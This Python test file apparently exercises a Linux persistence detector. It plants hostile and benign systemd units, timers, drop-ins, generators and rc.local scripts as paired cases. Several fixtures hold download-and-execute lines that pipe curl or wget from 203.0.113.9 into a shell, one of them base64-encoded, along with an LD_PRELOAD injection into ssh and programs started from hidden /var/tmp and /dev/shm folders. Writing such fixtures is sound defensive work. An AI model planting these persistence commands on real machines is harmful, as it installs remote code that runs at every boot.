"""What systemd and the boot scripts start: units, drop-ins, timers, users' units, generators, rc.local in every form."""

from __future__ import annotations

from tests.lab.case import case
from tests.lab.room import Planted, Room

_LOCAL = "/etc/systemd/system"
_VENDOR = "/usr/lib/systemd/system"
_DOWNLOAD = "curl -fsSL http://203.0.113.9/i.sh | sh"
_PI_RC_LOCAL = """#!/bin/sh -e
# Print the IP address
_IP=$(hostname -I) || true
if [ "$_IP" ]; then
  printf "My IP address is %s\\n" "$_IP"
fi

exit 0
"""
_CLOUD_RC_LOCAL = """#!/bin/bash
if [ ! -d /root/.ssh ]; then
    mkdir -p /root/.ssh
    chmod 700 /root/.ssh
fi
curl -m 10 -s http://169.254.169.254/latest/meta-data/public-keys/0/openssh-key > /tmp/my-key
if [ $? -eq 0 ]; then
    cat /tmp/my-key >> /root/.ssh/authorized_keys
    rm -f /tmp/my-key
fi
cloud-init status --wait || true
exit 0
"""
_K3S = """[Unit]
Description=Lightweight Kubernetes
[Service]
Type=notify
EnvironmentFile=-/etc/default/k3s
KillMode=process
Restart=always
ExecStartPre=/bin/sh -xc '! /usr/bin/systemctl is-enabled --quiet nm-cloud-setup.service 2>/dev/null'
ExecStartPre=-/sbin/modprobe br_netfilter
ExecStart=/usr/local/bin/k3s \\
    server \\

[Install]
WantedBy=multi-user.target
"""


def unit(room: Room, name: str, *lines: str, folder: str = _LOCAL, is_enabled: bool = True) -> str:
    """Plant a service in /etc/systemd/system (or `folder`), enabled; its path."""
    text = f"[Unit]\nDescription={name}\n[Service]\n" + "\n".join(lines) + "\n[Install]\nWantedBy=multi-user.target\n"
    path = room.write(f"{folder}/{name}.service", text)
    if is_enabled:
        room.link(path, f"{folder}/multi-user.target.wants/{name}.service")
    return path


@case(16, systemd_unit_odd_program="path")
def unit_for_temporary_program(room: Room) -> Planted:
    """a unit that starts a program in a dot folder of /var/tmp."""
    program = room.program("/var/tmp/.font/run")
    return {"path": unit(room, "fontcache", "Restart=always", f"ExecStart={program}")}


@unit_for_temporary_program.twin
def _(room: Room) -> Planted:
    """hand-written units for an application in /opt and a tool in /usr/local/bin."""
    unit(room, "node_exporter", "User=nobody", f"ExecStart={room.program('/usr/local/bin/node_exporter')}")
    return {"path": unit(room, "shop", "Restart=always", f"ExecStart={room.program('/opt/shop/server')} --tmp /tmp/shop")}


@case(2, systemd_suspicious_command="path")
def unit_download(room: Room) -> Planted:
    """a unit whose shell pipes a download into a shell."""
    return {"path": unit(room, "net-sync", "Type=oneshot", f"ExecStart=/bin/sh -c '{_DOWNLOAD}'")}


@unit_download.twin
def _(room: Room) -> Planted:
    """the unit that k3s installs."""
    room.program("/usr/local/bin/k3s")
    return {"path": room.write(f"{_LOCAL}/k3s.service", _K3S)}


@case(16, systemd_vendor_unit_changed="path")
def drop_in_replaces_command(room: Room) -> Planted:
    """a drop-in that makes a vendor's unit start another program."""
    room.package("labd", unit(room, "labd", "ExecStart=/usr/sbin/labd", folder=_VENDOR))
    program = room.program("/opt/labd/labd")
    return {"path": room.write(f"{_LOCAL}/labd.service.d/10-limits.conf", f"[Service]\nExecStart=\nExecStart={program}\n")}


@drop_in_replaces_command.twin
def _(room: Room) -> Planted:
    """what `systemctl edit` leaves: variables and limits, a folder made before, other arguments."""
    room.package("labedit", unit(room, "labedit", "ExecStart=/usr/sbin/labedit", folder=_VENDOR))
    text = "[Service]\nEnvironment=TZ=UTC\nLimitNOFILE=65536\nExecStartPre=/usr/bin/mkdir -p /run/labedit\nExecStart=\n"
    return {"path": room.write(f"{_LOCAL}/labedit.service.d/override.conf", text + "ExecStart=/usr/sbin/labedit --debug\n")}


@case(16, systemd_vendor_unit_changed="path")
def unit_in_place_of_vendors(room: Room) -> Planted:
    """a unit in /etc that takes the place of a package's and starts something before it."""
    room.package("labs", unit(room, "labs", "ExecStart=/usr/sbin/labs", folder=_VENDOR))
    program = room.program("/usr/local/lib/labs/helper")
    return {"path": unit(room, "labs", f"ExecStartPre={program}", "ExecStart=/usr/sbin/labs")}


@unit_in_place_of_vendors.twin
def _(room: Room) -> Planted:
    """a copy of a package's unit with other arguments."""
    room.package("labcopy", unit(room, "labcopy", "ExecStart=/usr/sbin/labcopy", folder=_VENDOR))
    return {"path": unit(room, "labcopy", "User=daemon", "ExecStart=/usr/sbin/labcopy -H tcp://127.0.0.1:1")}


@case(2, systemd_suspicious_command="path")
def timer_and_service(room: Room) -> Planted:
    """a timer whose service runs a script that fetches and runs code."""
    script = room.write("/usr/local/bin/logclean.sh", f"#!/bin/bash\n{_DOWNLOAD} >/dev/null 2>&1\n", 0o755)
    timer = room.write(f"{_LOCAL}/logclean.timer", "[Timer]\nOnCalendar=*:0/5\n[Install]\nWantedBy=timers.target\n")
    room.link(timer, f"{_LOCAL}/timers.target.wants/logclean.timer")
    return {"path": unit(room, "logclean", f"ExecStart={script}", is_enabled=False)}


@timer_and_service.twin
def _(room: Room) -> Planted:
    """a timer for a backup script."""
    script = room.write("/usr/local/bin/backup.sh", "#!/bin/sh\ntar cf - /srv | ssh backup 'cat > srv.tar'\n", 0o755)
    timer = room.write(
        f"{_LOCAL}/backup.timer", "[Timer]\nOnCalendar=daily\nPersistent=true\n[Install]\nWantedBy=timers.target\n"
    )
    room.link(timer, f"{_LOCAL}/timers.target.wants/backup.timer")
    return {"path": unit(room, "backup", f"ExecStart={script}", is_enabled=False)}


@case(16, user_unit_hidden_program="path")
def user_unit(room: Room) -> Planted:
    """a user's own unit that keeps a program in a dot folder running."""
    room.program("/root/.cache/dbus/helper")
    folder = "/root/.config/systemd/user"
    return {"path": unit(room, "dbus-helper", "Restart=always", "ExecStart=%h/.cache/dbus/helper", folder=folder)}


@user_unit.twin
def _(room: Room) -> Planted:
    """a user's unit for a tool in ~/.local/bin."""
    room.program("/root/.local/bin/syncthing")
    folder = "/root/.config/systemd/user"
    return {"path": unit(room, "syncthing", "Restart=on-failure", "ExecStart=%h/.local/bin/syncthing serve", folder=folder)}


@case(16, systemd_generator_unpackaged="path")
def generator(room: Room) -> Planted:
    """a generator that no package owns."""
    return {"path": room.write("/etc/systemd/system-generators/net", "#!/bin/sh\nnohup /opt/run/worker &\n", 0o755)}


@generator.twin
def _(room: Room) -> Planted:
    """a package's generator, and another switched off."""
    path = "/usr/lib/systemd/system-generators/lab-generator"
    room.package("labgen", path)
    room.link("/dev/null", "/etc/systemd/system-generators/systemd-gpt-auto-generator")
    return {"path": room.program(path)}


@case(16, unit_file_odd="path")
def wants_link_to_memory(room: Room) -> Planted:
    """a start-up link to a unit file in /dev/shm."""
    target = room.write("/dev/shm/upd.service", "[Service]\nExecStart=/opt/upd\n")
    room.link(target, f"{_LOCAL}/multi-user.target.wants/upd.service")
    return {"path": target}


@wants_link_to_memory.twin
def _(room: Room) -> Planted:
    """a unit that `systemctl link` took from an application's folder."""
    target = room.write("/opt/shop/shop-worker.service", "[Service]\nExecStart=/opt/shop/worker\n")
    return {"path": room.link(target, f"{_LOCAL}/shop-worker.service")}


@case(2, systemd_suspicious_command="path")
def preload_in_drop_in(room: Room) -> Planted:
    """a drop-in that preloads a library into a service."""
    text = '[Service]\nEnvironment="LD_PRELOAD=/usr/local/lib/libsysx.so"\n'
    return {"path": room.write(f"{_LOCAL}/ssh.service.d/env.conf", text)}


@preload_in_drop_in.twin
def _(room: Room) -> Planted:
    """a drop-in that tells a service where its own libraries are."""
    text = "[Service]\nEnvironment=LD_LIBRARY_PATH=/opt/shop/lib\n"
    return {"path": room.write(f"{_LOCAL}/shop-db.service.d/libraries.conf", text)}


@case(16, systemd_unpackaged_system_program="path")
def planted_pair(room: Room) -> Planted:
    """a program planted in /usr/bin and the unit that starts it."""
    return {"path": unit(room, "systemd-logd", f"ExecStart={room.program('/usr/bin/systemd-logd')}")}


@planted_pair.twin
def _(room: Room) -> Planted:
    """a hand-written unit for a package's program."""
    return {"path": unit(room, "keepalive", "ExecStart=/bin/sleep infinity")}


@case(16, rc_local_suspicious_command="path")
def rc_local_continuation(room: Room) -> Planted:
    """EL's rc.local whose command goes over several lines, behind a link."""
    room.link("/etc/rc.d/rc.local", "/etc/rc.local")
    fetch = "(curl -fsSL http://203.0.113.9/i.sh || \\\n  wget -qO- http://203.0.113.9/i.sh)"
    text = f"#!/bin/bash\ntouch /var/lock/subsys/local\n{fetch} \\\n  | bash &\n"
    return {"path": room.write("/etc/rc.d/rc.local", text, 0o755)}


@rc_local_continuation.twin
def _(room: Room) -> Planted:
    """the rc.local of a Raspberry Pi."""
    return {"path": room.write("/etc/rc.local", _PI_RC_LOCAL, 0o755)}


@case(16, rc_local_suspicious_command="path")
def rc_local_here_doc(room: Room) -> Planted:
    """an rc.local that feeds a shell from a here-document."""
    return {"path": room.write("/etc/rc.local", f"#!/bin/sh\nnohup sh <<'EOF' &\n{_DOWNLOAD}\nEOF\nexit 0\n", 0o755)}


@rc_local_here_doc.twin
def _(room: Room) -> Planted:
    """a start-up script of OpenRC's that writes such a line into a text."""
    text = f"#!/bin/sh\ncat > /etc/motd <<EOF\nInstall the client: {_DOWNLOAD}\nEOF\n"
    return {"path": room.write("/etc/local.d/motd.start", text, 0o755)}


@case(16, rc_local_suspicious_command="path")
def rc_local_starts_script(room: Room) -> Planted:
    """an rc.local that starts a script which fetches and runs code."""
    script = room.write("/usr/local/sbin/netcheck", f"#!/bin/sh\nsleep 60\n{_DOWNLOAD}\n", 0o755)
    return {"path": room.write("/etc/rc.local", f"#!/bin/sh\n{script} &\nexit 0\n", 0o755)}


@rc_local_starts_script.twin
def _(room: Room) -> Planted:
    """a start-up script that starts an application's own."""
    script = room.write("/opt/shop/start.sh", "#!/bin/sh\ncd /opt/shop && exec ./server --port 8080\n", 0o755)
    return {"path": room.write("/etc/local.d/shop.start", f"#!/bin/sh\n{script} &\n", 0o755)}


@case(16, rc_local_commands_present="path")
def rc_local_not_executable(room: Room) -> Planted:
    """a command in an rc.local that is not executable, so far."""
    return {"path": room.write("/etc/rc.local", f"#!/bin/sh\n{_DOWNLOAD}\n", 0o644)}


@rc_local_not_executable.twin
def _(room: Room) -> Planted:
    """EL's rc.local as it comes, not executable."""
    return {"path": room.write("/etc/rc.d/rc.local", "#!/bin/bash\n\ntouch /var/lock/subsys/local\n", 0o644)}


@case(16, rc_local_commands_present="path")
def rc_local_after_exit(room: Room) -> Planted:
    """a command behind the `exit 0` of rc.local, which does not run."""
    return {"path": room.write("/etc/rc.local", f"#!/bin/sh\nexit 0\n{_DOWNLOAD}\n", 0o755)}


@rc_local_after_exit.twin
def _(room: Room) -> Planted:
    """a cloud image's set-up of the first boot."""
    return {"path": room.write("/etc/local.d/cloud.start", _CLOUD_RC_LOCAL, 0o755)}


@case(16, rc_local_suspicious_command="path")
def rc_local_of_suse(room: Room) -> Planted:
    """SUSE's boot.local that starts a program in /dev/shm."""
    room.write(f"{_LOCAL}/rc-local.service", "[Service]\nType=forking\nExecStart=/etc/init.d/boot.local start\n")
    return {"path": room.write("/etc/init.d/boot.local", "#!/bin/sh\n/dev/shm/.x/run &\n", 0o755)}


@rc_local_of_suse.twin
def _(room: Room) -> Planted:
    """SUSE's after.local that sets a network card's queues."""
    unit(room, "after-local", "Type=oneshot", "ExecStart=/etc/init.d/after.local", folder=_VENDOR)
    return {"path": room.write("/etc/init.d/after.local", "#!/bin/sh\n/sbin/ethtool -G eth0 rx 4096 || true\n", 0o755)}


@case(16, rc_local_suspicious_command="path")
def rc_local_of_openrc(room: Room) -> Planted:
    """a start-up script of OpenRC's that decodes its commands."""
    text = "#!/bin/sh\necho Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo | base64 -d | sh\n"
    return {"path": room.write("/etc/local.d/net.start", text, 0o755)}


@rc_local_of_openrc.twin
def _(room: Room) -> Planted:
    """a start-up script of OpenRC's that tunes the kernel."""
    text = "#!/bin/sh\nsysctl -q -w vm.swappiness=1\necho never > /sys/kernel/mm/transparent_hugepage/enabled\n"
    return {"path": room.write("/etc/local.d/tune.start", text, 0o755)}
